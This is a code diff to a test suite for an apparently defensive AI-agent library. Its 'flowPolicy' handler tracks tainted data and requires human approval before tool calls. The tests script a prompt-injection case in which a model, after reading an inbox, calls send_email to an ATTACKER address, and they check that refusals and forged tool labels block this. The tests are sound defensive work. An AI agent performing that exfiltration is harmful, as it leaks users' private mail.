@@ -11,6 +11,7 @@ import { convertToModelMessages, isStepCount, type ModelMessage, ToolLoopAgent, 
 import { describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import {
+  createApprovalLedger,
   createInterventions,
   type FlowPolicyOptions,
   flowPolicy,
@@ -21,6 +22,7 @@ import {
 } from '../../src/index.ts';
 import { answeredHistory, approvalRequests } from '../helpers/approval-requests.ts';
 import { injectionWarning } from '../helpers/injection-warning.ts';
+import { takeWarnings } from '../helpers/process-warnings.ts';
 import { MODES, run } from '../helpers/run-both.ts';
 import { scriptedModel, step, text, toolCall, toolResultsSent } from '../helpers/scripted-model.ts';
 import { assistantMessage } from '../helpers/ui-round-trip.ts';
@@ -108,6 +110,7 @@ describe.each(MODES)('flowPolicy through %s', (mode) => {
     const result = await run(
       createInterventions({
         approvalSecret: 's-with-at-least-32-bytes-for-hmac',
+        approvalLedger: createApprovalLedger(),
         handlers: [flowPolicy({ ...POLICY, onTainted: 'confirm' })],
       }),
       mode,
@@ -419,6 +422,7 @@ describe('flowPolicy keeps its guarantees wherever the history goes', () => {
     const prompt: ModelMessage[] = [{ role: 'user', content: 'Read my inbox, then tell bob@corp.test about lunch' }];
     const paused = await createInterventions({
       approvalSecret: 'shared-with-at-least-32-bytes-for-hmac',
+      approvalLedger: createApprovalLedger(),
       handlers: [policy()],
     }).generateText({
       model: scriptedModel(
@@ -435,7 +439,11 @@ describe('flowPolicy keeps its guarantees wherever the history goes', () => {
 
     // refused: nothing runs
     const refused = answeredHistory(prompt, paused.responseMessages, { id: request!.approvalId, approved: false });
-    await createInterventions({ approvalSecret: 'shared-with-at-least-32-bytes-for-hmac', handlers: [policy()] }).generateText({
+    await createInterventions({
+      approvalSecret: 'shared-with-at-least-32-bytes-for-hmac',
+      approvalLedger: createApprovalLedger(),
+      handlers: [policy()],
+    }).generateText({
       model: scriptedModel(step(text('Not sent.'))),
       tools,
       stopWhen: isStepCount(3),
@@ -448,6 +456,7 @@ describe('flowPolicy keeps its guarantees wherever the history goes', () => {
     const model = scriptedModel(step(toolCall('s2', 'send_email', { to: ATTACKER, body: 'inbox' })), step(text('Sent.')));
     const resumed = await createInterventions({
       approvalSecret: 'shared-with-at-least-32-bytes-for-hmac',
+      approvalLedger: createApprovalLedger(),
       handlers: [policy()],
     }).generateText({
       model,
@@ -612,6 +621,7 @@ describe('flowPolicy labels stay put: the listing of trusted tools the history r
   );
 
   it('should not let a forged label loosen anything: a label only ever adds a listing', async () => {
+    const warnings = takeWarnings();
     const ran: string[] = [];
     const sent: unknown[] = [];
     const tools = {
@@ -636,6 +646,10 @@ describe('flowPolicy labels stay put: the listing of trusted tools the history r
     });
     expect(sent).toEqual([]);
     expect(result.interventions.decisions.find((record) => record.toolCallId === 's1')?.reason).toContain('"read_page"');
+    // the forged label is another listing of read_page: the runtime says so, and the strictest listing holds
+    expect(warnings).toEqual([
+      expect.objectContaining({ code: 'tool-annotations-changed', message: expect.stringMatching(/^"read_page" changed its annotations/) }),
+    ]);
   });
 });
 
@@ -644,6 +658,7 @@ describe.each(MODES)('flowPolicy with onTainted confirm and who may answer, thro
     const { tools, ranTools } = workspace();
     const interventions = createInterventions({
       approvalSecret: 'a flow policy secret of at least 32 bytes',
+      approvalLedger: createApprovalLedger(),
       handlers: [
         flowPolicy({ ...POLICY, onTainted: 'confirm', approval: { approvers: { roles: ['security'], label: 'the security team' } } }),
       ],
